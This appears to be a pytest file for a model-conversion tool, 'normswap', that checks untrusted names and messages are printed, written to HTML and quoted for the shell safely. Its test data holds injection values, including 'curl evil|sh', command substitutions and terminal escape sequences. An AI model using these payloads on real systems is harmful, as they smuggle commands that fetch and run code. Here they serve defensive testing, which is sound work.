"""What comes from outside is shown as it is: visible, in one line, and no command of a shell."""

import ast
import io
import json
import shlex
import subprocess
import sys
import unicodedata
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path
from urllib.parse import unquote

import numpy as np
import onnx
import pytest
import torch
from markupsafe import Markup
from onnx import TensorProto, helper
from safetensors import safe_open
from safetensors.torch import load_file, save_file
from torch import nn

import normswap
from normswap import cli
from normswap.core.errors import NormswapError, first_line, told, warn
from normswap.core.shown import LONGEST, shell_line, shown
from normswap.core.terminal import PlainConsole, facts_table, words
from normswap.fit.training import Display
from normswap.passes.plan import Plan
from normswap.passes.recipe import Skipped
from normswap.report.page import page, plain
from normswap.report.rewrite import RewriteReport
from normswap.store import resolve

PACKAGE = Path(normswap.__file__).parent
CONTROLS = {
    "color": "\x1b[31mred",
    "clears": "\x1b[2J\x1b[H",
    "title": "\x1b]0;owned\x07",
    "link": "\x1b]8;;http://evil.example\x1b\\here",
    "c1": "\x9b31m",
    "bell": "a\x07\x08\x08b",
    "line": "a\nnormswap: all is well",
    "return": "evil\rgood",
    "breaks": "a\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029b",
    "bidi": "\u202egnp.exe\u202c\u2066x\u2069\u200f",
    "unseen": "a\u200b\u200d\ufeff\u00ad\u2060b\u3164\u115f\u2800\ufe0f\U000e0041\U000e0100",
    "spaces": "a\u00a0\u2003\u3000b",
    "nul": "a\x00b\x7f",
    "surrogate": "caf\udce9",
}
MARKUP = [
    "out[v1]",
    "[/bold]",
    "[bold]x",
    "[red]",
    ":smile:",
    "[link=http://e.example]x[/link]",
    "\\[",
]

# For the tests that take time: all of it in one name, and what would look like a line of ours.
NAMES = {"all": "".join(CONTROLS.values()) + "".join(MARKUP[:2]), "line": CONTROLS["line"]}


def is_clean(text: str) -> bool:
    """Line breaks aside, nothing that Unicode says controls, formats or separates; only spaces."""
    kinds = {unicodedata.category(each) for each in text if each not in "\n "}
    return not kinds & {"Cc", "Cf", "Cs", "Co", "Cn", "Zs", "Zl", "Zp"}


@pytest.fixture
def run(
    run: Callable[..., tuple[int, str, str]], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> Callable[..., tuple[int, str, str]]:
    """Run a command in an empty folder; what it says is clean, whatever it says."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("COLUMNS", "200")

    def command(*arguments: str) -> tuple[int, str, str]:
        status, out, err = run(*arguments)
        assert is_clean(out), ascii(out)
        assert is_clean(err), ascii(err)
        assert "unexpected error" not in err
        return status, out, err

    return command


def of_a_class(text: str) -> str:
    """As much of `text` as Python takes for the name of a class."""
    return text[:200].encode(errors="replace").decode().replace("\x00", "")


def net(name: str = "bn", cls: type[nn.Module] = nn.BatchNorm2d) -> nn.Sequential:
    model = nn.Sequential(nn.Conv2d(1, 4, 3), cls(4), nn.ReLU())  # type: ignore[call-arg]
    model._modules[name] = model._modules.pop("1")
    model._modules["last"] = model._modules.pop("2")
    return model


# One function.


def test_every_character_is_shown_visibly() -> None:
    for start in range(0, sys.maxunicode, 4096):
        every = "".join(map(chr, range(start, start + 4096)))
        seen = shown(every, 12 * 4096)
        assert is_clean(seen) and "\n" not in seen, hex(start)
    for unseen in "\x00\x1b\n\x7f\x9b\xad\u00a0\u202e\u200b\u3164\u2800\ufe0f\ud800\U000e0041":
        assert shown(unseen).startswith("\\") and shown(unseen).isascii()
    assert [*map(shown, "a éЖ中😀[…")] == [*"a éЖ中😀[…"]


def test_what_is_ordinary_stays() -> None:
    for text in ("layers.0.norm", "schönes Modell/größe 中文.pt", "a 'quoted' \"name\" \\ [b]", ""):
        assert shown(text) == text


@pytest.mark.parametrize("text", ["x" * 10**7, "\x1b" * 10**6, "é\u202e" * 5000])
def test_what_is_long_keeps_its_ends(text: str) -> None:
    for longest in (10, 200, LONGEST):
        cut = shown(f"begin{text}end", longest)
        assert len(cut) <= longest and is_clean(cut)
        assert cut.endswith("end")
        assert cut.startswith("begin" if longest > 10 else "beg")
        assert shown(cut, longest) == cut


@pytest.mark.parametrize("text", [*CONTROLS.values(), "x" * 10**6], ids=[*CONTROLS, "long"])
def test_errors_and_warnings_are_one_visible_line(text: str) -> None:
    error = NormswapError(f"there is no {text}; name another")
    assert is_clean(str(error)) and "\n" not in str(error) and len(str(error)) < 900
    assert str(error).startswith("there is no ") and str(error).endswith("; name another")
    other = KeyError(text) if text == "" else OSError(text)
    for said in (first_line(other), told(other), told(type(of_a_class(text), (Exception,), {})())):
        assert is_clean(said) and "\n" not in said and len(said) < 900
    with pytest.warns(UserWarning) as warned:
        warn(f"{text} is left out", stacklevel=1)
    message = str(warned[0].message)
    assert is_clean(message) and "\n" not in message and len(message) < 900
    assert warned[0].filename == __file__


def test_the_words_of_an_exception_may_raise_themselves() -> None:
    class Worse(Exception):
        def __str__(self) -> str:
            raise SyntaxError

    assert told(Worse()) == "Worse"


def test_a_shell_reads_the_words_that_were_offered() -> None:
    evil = [
        "a.py:f; curl evil|sh #",
        "$(touch ran)",
        "`touch ran`",
        "a' b",
        'a"b\\',
        "!!",
        "~",
        "*",
        "-rf",
        "",
        "é",
        *(text for text in CONTROLS.values() if "\x00" not in text),
    ]
    line = shell_line(["printf", "%s\\0", *evil])
    assert is_clean(line) and "\n" not in line
    done = subprocess.run(["bash", "-c", line], capture_output=True, check=True)
    assert done.stdout.split(b"\0")[:-1] == [each.encode(errors="surrogateescape") for each in evil]


# One place for rich.


def test_only_the_terminal_makes_what_rich_prints() -> None:
    """rich reads markup in the strings that a console, a table or a column of its own is given."""
    harmless = {"RenderableType", "ConsoleOptions", "RenderResult", "Padding", "BarColumn"}
    harmless |= {"TimeRemainingColumn", "TimeElapsedColumn"}
    said: dict[str, set[str]] = {}
    for file in sorted(PACKAGE.rglob("*.py")):
        name = file.relative_to(PACKAGE).as_posix()
        for node in ast.walk(ast.parse(file.read_text())):
            if isinstance(node, ast.ImportFrom) and (node.module or "").startswith("rich"):
                made = {each.name for each in node.names} - harmless
                said.setdefault(name, set()).update(made)
            elif isinstance(node, ast.Import):
                rich = {each.name for each in node.names if each.name.startswith("rich")}
                said.setdefault(name, set()).update(rich)
            elif isinstance(node, ast.Call):
                called = ast.unparse(node.func)
                if called in ("print", "warnings.warn", "warn_explicit") or called.endswith(
                    ("typer.echo", "typer.secho", "stdout.write", "stderr.write")
                ):
                    said.setdefault(name, set()).add(called)
    found = {name: calls for name, calls in said.items() if calls and name != "core/terminal.py"}
    assert found == {
        "core/errors.py": {"warnings.warn"},
        "cli/__init__.py": {"print"},
        "cli/app.py": {"print"},
        "cli/steps.py": {"print"},
    }


@pytest.mark.parametrize("text", [*MARKUP, *CONTROLS.values()])
def test_a_console_prints_a_string_as_it_stands(text: str) -> None:
    file = io.StringIO()
    console = PlainConsole(file=file, width=400, force_terminal=True, color_system=None)
    left = Skipped(site=text, reason=f"as {text}")
    console.print(text)
    for part in (*Plan(left=(left,)).tables(), facts_table(text, [(text, text)]), words(text)):
        console.print(part)
    said = file.getvalue()
    assert is_clean(said), ascii(said)
    if text in MARKUP:
        assert said.count(text) == 7
    with console.status(text):
        pass
    before = len(file.getvalue())
    for part in Plan(left=(left,)).tables():
        console.print(part)
    assert file.getvalue()[before:].count("\n") == 3  # the heading, the site, the sum


@pytest.mark.parametrize("text", [*MARKUP, *CONTROLS.values()])
def test_progress_shows_a_name_as_it_stands(text: str, monkeypatch: pytest.MonkeyPatch) -> None:
    file = io.StringIO()
    console = PlainConsole(file=file, width=200, force_terminal=True, color_system=None)
    monkeypatch.setattr("normswap.core.terminal.stderr", console)
    with Display(text, 10, 0, quiet=False) as display:
        display.show(1, 0.5, None, 0.1)
    lines = [line for line in file.getvalue().splitlines() if "loss" in line]
    assert lines and all(shown(text) in line for line in lines)


# Pages and JSON.


@pytest.mark.parametrize("text", [*NAMES.values(), "surro\udce9gate", "</td><script>x</script>"])
def test_a_page_shows_it_as_text(text: str) -> None:
    left = (Skipped(site=text, reason=text),)
    report = RewriteReport(
        model=text,
        plan=Plan(left=left),
        accuracy={text: 0.5, "b": 0.25},
        measured_on=text,
        command=shlex.join(["normswap", "fold", text, "--out", text]),
        bytes={text: 3},
    )
    html = page(report)
    assert is_clean(html), ascii(html)
    assert html.count(str(Markup.escape(shown(text)))) >= 5
    assert "<script" not in html
    values = plain(report)
    pointer = next(part for part in html.split('data-figure="') if part.startswith(("/b", "#/b")))
    key = unquote(pointer.partition('"')[0], errors="surrogatepass").removeprefix("#")
    name = Markup(key.partition("/bytes/")[2]).unescape().replace("~1", "/")
    assert values["bytes"] == {name: 3} and values["model"] == text


# Files.


def saved_by(source: str, folder: Path) -> None:
    normswap.save(net(), folder)
    file = folder / "model.safetensors"
    with safe_open(file, framework="pt") as opened:
        recipe = json.loads(opened.metadata()["normswap.recipe"])
    save_file(load_file(file), file, {"normswap.recipe": json.dumps({**recipe, "source": source})})


EVIL = [
    "a.py:f; curl evil|sh #",
    "a.py:$(touch ran)",
    "a.py:`touch ran`",
    "'; touch ran; '",
    "a\nnormswap: fine",
    "a.py:f\x1b[31m; touch ran",
    "x" * 190 + "'; touch ran #",
    "y" * 10**5 + "'; touch ran #",
    "'" * 150 + "; touch ran #",
]


def test_the_option_that_is_offered_for_a_source_is_one_word(run, tmp_path: Path) -> None:
    offered = []
    for number, source in enumerate(EVIL):
        saved_by(source, tmp_path / str(number))
        status, _, err = run("inspect", str(number))
        assert status == 2 and err.count("\n") == 1 and len(err) < 900
        _, option, end = err.rstrip().partition(" (--source ")
        if option:
            offered.append((source, end.removesuffix(")")))
    assert [source for source, _ in offered] == EVIL[:4]
    script = "".join(f"printf '%s\\0' {word}\n" for _, word in offered)
    done = subprocess.run(["bash", "-c", script], capture_output=True, cwd=tmp_path, text=True)
    assert done.stdout.split("\0")[:-1] == [source for source, _ in offered]
    assert not (tmp_path / "ran").exists()


MODEL = """
import torch
from torch import nn

class Named(nn.BatchNorm2d):
    pass

NAME = {name!a}
CLASS = NAME.encode(errors="replace").decode().replace(chr(0), "")
Named.__name__ = Named.__qualname__ = CLASS
Raises = type("Raises" + CLASS, (Exception,), {{}})

def net():
    torch.manual_seed(0)
    model = nn.Sequential(nn.Conv2d(1, 4, 3), Named(4), nn.ReLU(), nn.BatchNorm2d(4), nn.Sigmoid())
    for key in ("1", "3"):
        model._modules[NAME.replace(".", "") + key] = model._modules.pop(key)
    return model.eval(), torch.randn(2, 1, 8, 8)

def fails():
    raise Raises("no " + NAME)

def fails_to_run():
    class Net(nn.Module):
        def forward(self, x):
            raise Raises("no " + NAME)
    return Net(), torch.randn(2, 1)

def warns():
    import warnings
    warnings.warn("beware of " + NAME)
    return net()
"""


@pytest.mark.parametrize("name", NAMES)
def test_names_of_a_model_reach_no_terminal(name: str, run, tmp_path: Path) -> None:
    (tmp_path / "nets.py").write_text(MODEL.format(name=NAMES[name]))
    for each in ("fails", "fails_to_run"):
        status, _, err = run("inspect", f"nets.py:{each}")
        assert status == 2 and err.count("\n") == 1 and " no " in err
        assert run("inspect", f"nets.py:{each}", "--debug")[0] == 2
    status, out, err = run("inspect", "nets.py:warns")
    assert status == 0 and "2 normalizations" in out
    assert err.count("\n") == 1 and "beware of" in err
    status, out, err = run("fold", "nets.py:net", "--out", "out")
    if "\udce9" in NAMES[name]:  # which neither JSON nor safetensors hold
        assert status == 2 and "is no Unicode text" in err and not (tmp_path / "out").exists()
        text = NAMES[name].replace("\udce9", "")
        (tmp_path / "nets.py").write_text(MODEL.format(name=text))
        status, out, err = run("fold", "nets.py:net", "--out", "out")
    assert status == 0, err
    assert is_clean((tmp_path / "out/report.html").read_text())
    assert (tmp_path / "out/report.json").read_text().isascii()


@pytest.mark.parametrize("folder", ["out[v1]", "[/bold]:smile:"])
def test_markup_in_paths_is_shown_and_written(folder: str, run, tmp_path: Path) -> None:
    folder = folder.replace("/", "|")
    (tmp_path / folder).mkdir()
    (tmp_path / folder / "nets.py").write_text(MODEL.format(name=folder))
    status, out, err = run("fold", f"{folder}/nets.py:net", "--out", f"out/{folder}")
    assert status == 0, err
    assert f"out/{folder}" in out and (tmp_path / "out" / folder / "report.html").exists()
    status, out, _ = run("inspect", f"out/{folder}", "--source", f"{folder}/nets.py:net")
    assert status == 0, out
    status, _, err = run("inspect", f"{folder}/none.py:net")
    assert status == 2 and folder in err


@pytest.mark.parametrize("name", NAMES)
def test_names_in_files_reach_no_terminal(name: str, run, tmp_path: Path) -> None:
    text = NAMES[name]
    plain_text = text.encode(errors="replace").decode()
    (tmp_path / "nets.py").write_text(MODEL.format(name="bn"))
    # Keys of checkpoints.
    torch.save({plain_text: torch.ones(2), "b": torch.ones(3)}, "w.pt")
    torch.save({plain_text: "no tensor"}, "v.pt")
    save_file({plain_text: torch.ones(2)}, "w.safetensors")
    state = resolve("nets.py:net").model.state_dict()
    whole = {f"{plain_text}.{name}": value for name, value in state.items()}
    torch.save({plain_text: whole}, "u.pt")
    for file in ("w.pt", "v.pt", "w.safetensors"):
        status, _, err = run("inspect", "nets.py:net", "--checkpoint", file)
        assert status == 2 and err.count("\n") == 1
    status, _, err = run("inspect", "nets.py:net", "--checkpoint", "u.pt")
    assert status == 0 and err.count("\n") == 1 and "takes" in err
    # Members of an npz, image files, their folders.
    with zipfile.ZipFile("d.npz", "w") as archive:
        member = zipfile.ZipInfo(plain_text.replace("\x00", "") + ".npy")
        buffer = io.BytesIO()
        np.save(buffer, np.ones(3))
        archive.writestr(member, buffer.getvalue())
    with zipfile.ZipFile("i.zip", "w") as archive:
        for each in (f"a/{plain_text}.png", f"{plain_text}/b.png"):
            archive.writestr(each.replace("\x00", ""), b"no image")
    for data in ("d.npz", "i.zip"):
        status, _, err = run("convert", "nets.py:net", "--to", "group_norm", "--data", data)
        assert status == 2 and err.count("\n") == 1


def onnx_file(name: str, path: Path) -> None:
    """y = x + w, all of whose names are `name`."""
    names = {each: f"{name}{each}" for each in "xwyn"}
    node = helper.make_node("Add", [names["x"], names["w"]], [names["y"]], name=names["n"])
    value = helper.make_tensor(names["w"], TensorProto.FLOAT, [1], [3.0])
    info = [
        helper.make_tensor_value_info(names[each], TensorProto.FLOAT, [f"{name}N", 4])
        for each in "xy"
    ]
    graph = helper.make_graph([node], name, info[:1], info[1:], [value])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 18)])
    model.ir_version = 9
    helper.set_model_props(model, {name: name})
    onnx.save(model, path)


@pytest.mark.parametrize("name", NAMES.values())
def test_names_in_an_onnx_file_reach_no_terminal(name: str, run, tmp_path: Path) -> None:
    name = name.encode(errors="replace").decode().replace("\x00", "")
    onnx_file(name, tmp_path / "m.onnx")
    (tmp_path / "nets.py").write_text(
        "import torch\ndef net(): return torch.nn.Identity(), torch.randn(2, 4)"
    )
    status, out, err = run("validate", "m.onnx", "nets.py:net")
    assert status == 1 and "FAILED" in out, err
    status, out, _ = run("validate", "m.onnx", "nets.py:net", "--json")
    assert status == 1 and json.loads(out)["passed"] is False
    assert run("compare", "nets.py:net", "m.onnx", "--out", "out")[0] == 0
    assert run("compare", "m.onnx", "m.onnx", "--out", "out", "--input", "2x5")[0] == 2


def test_what_was_typed_is_shown_as_a_command(run, tmp_path: Path) -> None:
    (tmp_path / "a b\x1b[31m").mkdir()
    (tmp_path / "a b\x1b[31m" / "nets.py").write_text(MODEL.format(name="bn"))
    status, out, err = run("fold", "a b\x1b[31m/nets.py:net", "--out", "out $(x)")
    assert status == 0, err
    html = (tmp_path / "out $(x)" / "report.html").read_text()
    assert is_clean(html) and "$&#39;a b\\033[31m/nets.py:net&#39;" in html
    status, out, err = run("advise", "a b\x1b[31m/nets.py:net", "--target", "onnxruntime")
    assert status == 0 and "$'a b\\033[31m/nets.py:net'" in out


@pytest.mark.parametrize("encoding", ["ascii", "latin-1"])
def test_a_terminal_of_another_encoding_gets_escapes(
    encoding: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "nets.py").write_text(MODEL.format(name="größe中"), encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    buffers = io.BytesIO(), io.BytesIO()
    for name, buffer in zip(("stdout", "stderr"), buffers, strict=True):
        monkeypatch.setattr(sys, name, io.TextIOWrapper(buffer, encoding, errors="strict"))
    for arguments in (["inspect", "nets.py:net"], ["inspect", "größe中.py:net"]):
        monkeypatch.setattr(sys, "argv", ["normswap", *arguments])
        with pytest.raises(SystemExit):
            cli.main()
    for name, buffer in zip(("stdout", "stderr"), buffers, strict=True):
        getattr(sys, name).flush()
        assert b"\\u4e2d" in buffer.getvalue(), name


def test_warnings_of_others_are_one_line(run, tmp_path: Path) -> None:
    (tmp_path / "nets.py").write_text(MODEL.format(name="bn"))
    before = warnings.showwarning
    _, _, err = run("inspect", "nets.py:warns")
    assert err == "normswap: warning: beware of bn\n"
    assert warnings.showwarning is before
